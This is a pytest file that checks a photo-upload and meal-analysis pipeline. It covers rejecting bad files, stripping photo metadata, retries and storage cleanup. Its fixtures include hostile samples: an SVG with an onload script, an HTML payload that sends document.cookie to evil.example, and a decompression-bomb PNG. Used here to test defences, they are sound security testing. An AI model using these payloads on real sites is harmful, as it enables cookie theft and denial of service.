"""Files through the whole way: upload, log, analysis. A hostile one fails with words; a good one is made clean."""

from __future__ import annotations

import datetime as dt
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
import pyvips
from tests.conftest import settings_for
from tests.factories import Family, call, make_family, make_photo_log, upload

from praan.infra.runtime import open_runtime
from praan.infra.vision.interface import Vision
from praan.journal.analysis import MAX_ATTEMPTS, analyse
from praan.kernel.errors import Unavailable
from praan.localstack.services import Services
from praan.meals.seeing import make_vision
from praan.uploads import service as uploads

PHOTOS = Path(__file__).parents[1] / "photos"
COFFEE = (PHOTOS / "coffee.jpg").read_bytes()
CAT = (PHOTOS / "cat.jpg").read_bytes()
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
ROW = "SELECT upload_key, photo_key, thumb_key, attempts FROM daily_logs WHERE id = $1"


def giant_png() -> bytes:
    """A PNG of a few bytes that says it is 30,000 × 30,000."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")]
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


@pytest.fixture(scope="module")
def vision() -> Vision:
    return make_vision("local")


@pytest.fixture(scope="module")
async def family(make_user: Any) -> Family:
    return await make_family(await make_user())


async def photo_log(family: Family, data: bytes, content_type: str = "image/jpeg") -> int:
    key = await upload(family.owner, family.program, data, content_type)
    body = {"program_id": family.program, "log_type": "NUTRITION", "payload": {"photo_key": key, "meal": "LUNCH"}}
    made: int = (await call(family.owner, "POST", "/logs", 202, json=body))["id"]
    return made


@pytest.mark.parametrize(
    ("data", "content_type", "code"),
    [
        (SVG, "image/jpeg", "PHOTO_NOT_AN_IMAGE"),
        (HTML, "image/png", "PHOTO_NOT_AN_IMAGE"),
        (b"\xff\xd8\xff" + HTML, "image/jpeg", "PHOTO_BROKEN"),
        (COFFEE, "image/png", "PHOTO_TYPE_DIFFERS"),
        (COFFEE[: len(COFFEE) // 2], "image/jpeg", "PHOTO_BROKEN"),
        (giant_png(), "image/png", "PHOTO_TOO_MANY_PIXELS"),
        (CAT, "image/jpeg", "NOT_FOOD"),
    ],
    ids=["svg", "html", "html behind a jpeg's first bytes", "jpeg as png", "half a jpeg", "giant png", "a cat"],
)
async def test_a_file_that_is_no_meal_fails_with_words_and_can_be_tried_again(
    family: Family, rt: Any, analysis_rt: Any, god: Any, vision: Vision, data: bytes, content_type: str, code: str
) -> None:
    log = await photo_log(family, data, content_type)
    path = f"/programs/{family.program}/adherence/today"
    before = await call(family.owner, "GET", path, 200)

    assert await analyse(analysis_rt, vision, family.owner.id, log) == "FAILED"

    shown = await call(family.owner, "GET", f"/logs/{log}", 200)
    assert (shown["status"], shown["failure"]["code"], shown["photo"]) == ("FAILED", code, None)
    assert shown["failure"]["message"].endswith(".")
    assert await call(family.owner, "GET", path, 200) == before
    row = await god.fetchrow(ROW, log)
    assert await rt.storage.head(row["upload_key"]) is not None
    again = await call(family.owner, "POST", f"/logs/{log}/retry", 202)
    assert again == {"id": log, "status": "PROCESSING", "adherence_impact": "0 points"}
    assert await analyse(analysis_rt, vision, family.owner.id, log) == "FAILED"
    by_hand = await call(family.owner, "PATCH", f"/logs/{log}", 200, json={"payload": {"calories": 200}})
    assert (by_hand["status"], by_hand["failure"]) == ("VERIFIED", None)


async def test_a_photo_with_secrets_is_stored_upright_and_without_them(
    family: Family, rt: Any, analysis_rt: Any, god: Any, vision: Vision
) -> None:
    picture: Any = pyvips.Image.thumbnail_buffer(COFFEE, 400, height=300, size="force").copy()
    picture.set_type(pyvips.GValue.gstr_type, "exif-ifd3-GPSLatitude", "28/1 36/1 50/1")
    picture.set_type(pyvips.GValue.gstr_type, "exif-ifd0-Model", "SecretPhone 9")
    picture.set_type(pyvips.GValue.gint_type, "orientation", 6)
    dirty = picture.jpegsave_buffer(Q=90)
    assert b"SecretPhone" in dirty
    log = await photo_log(family, dirty)

    ended = await analyse(analysis_rt, vision, family.owner.id, log)

    assert ended in ("NEEDS_REVIEW", "VERIFIED")
    row = await god.fetchrow(ROW, log)
    for key in (row["photo_key"], row["thumb_key"]):
        stored = await rt.storage.get(key, 10_000_000)
        plain: Any = pyvips.Image.new_from_buffer(stored, "")
        assert plain.height > plain.width
        assert b"Secret" not in stored
        assert b"Exif" not in stored
        assert not any(name.startswith("exif-") for name in plain.get_fields())
    assert await rt.storage.head(row["upload_key"]) is None
    shown = await call(family.owner, "GET", f"/logs/{log}", 200)
    assert shown["payload"]["meal"] == "LUNCH"
    assert shown["candidates"][0]["food_id"] == shown["payload"]["items"][0]["food_id"]
    link = await call(family.owner, "GET", f"/logs/{log}/photo", 200)
    assert row["photo_key"] in link["url"]


async def test_a_photo_that_vanished_fails_with_words(
    family: Family, rt: Any, analysis_rt: Any, god: Any, vision: Vision
) -> None:
    log = await photo_log(family, COFFEE)
    await rt.storage.delete((await god.fetchrow(ROW, log))["upload_key"])

    assert await analyse(analysis_rt, vision, family.owner.id, log) == "FAILED"

    shown = await call(family.owner, "GET", f"/logs/{log}", 200)
    assert shown["failure"]["code"] == "PHOTO_GONE"


async def test_a_photo_that_crashes_every_worker_is_given_up(
    family: Family, analysis_rt: Any, god: Any, vision: Vision
) -> None:
    log = await photo_log(family, COFFEE)
    await god.execute("UPDATE daily_logs SET attempts = $2 WHERE id = $1", log, MAX_ATTEMPTS)

    assert await analyse(analysis_rt, vision, family.owner.id, log) == "GONE"

    shown = await call(family.owner, "GET", f"/logs/{log}", 200)
    assert (shown["status"], shown["failure"]["code"]) == ("FAILED", "GAVE_UP")
    await call(family.owner, "POST", f"/logs/{log}/retry", 202)
    assert await analyse(analysis_rt, vision, family.owner.id, log) in ("NEEDS_REVIEW", "VERIFIED")


async def test_a_store_that_does_not_answer_costs_the_photo_nothing(
    family: Family, services: Services, god: Any, vision: Vision
) -> None:
    log = await photo_log(family, COFFEE)
    # Port 9 (discard) has no server here.
    async with open_runtime(settings_for(services, "analysis", PRAAN_S3_ENDPOINT="http://127.0.0.1:9")) as cut_off:
        with pytest.raises(Unavailable):
            await analyse(cut_off, vision, family.owner.id, log)

    shown = await call(family.owner, "GET", f"/logs/{log}", 200)
    assert shown["status"] == "PROCESSING"
    assert (await god.fetchrow(ROW, log))["attempts"] == 0


async def test_the_sweep_takes_what_nobody_needs_and_nothing_else(
    make_user: Any, rt: Any, analysis_rt: Any, worker_rt: Any, god: Any, vision: Vision
) -> None:
    family = await make_family(await make_user())
    unused, recent = [await upload(family.owner, family.program, SVG) for _ in range(2)]
    waiting, failed_now, failed_long_ago = [
        await make_photo_log(family.owner, family.program, SVG) for _ in range(3)
    ]
    for log in (failed_now, failed_long_ago):
        await analyse(analysis_rt, vision, family.owner.id, log)
    keys = {log: (await god.fetchrow(ROW, log))["upload_key"] for log in (waiting, failed_now, failed_long_ago)}
    past = "UPDATE uploads SET expires_at = now() - $2::interval, used_at = used_at - $2::interval WHERE key = $1"
    for key, age in (
        (unused, dt.timedelta(hours=2)),
        (keys[waiting], dt.timedelta(days=9)),
        (keys[failed_now], dt.timedelta(days=6)),
        (keys[failed_long_ago], dt.timedelta(days=8)),
    ):
        await god.execute(past, key, age)

    while await uploads.sweep(worker_rt):
        pass

    there = {key: await rt.storage.head(key) is not None for key in (unused, recent, *keys.values())}
    assert there == {
        unused: False,
        recent: True,
        keys[waiting]: True,
        keys[failed_now]: True,
        keys[failed_long_ago]: False,
    }
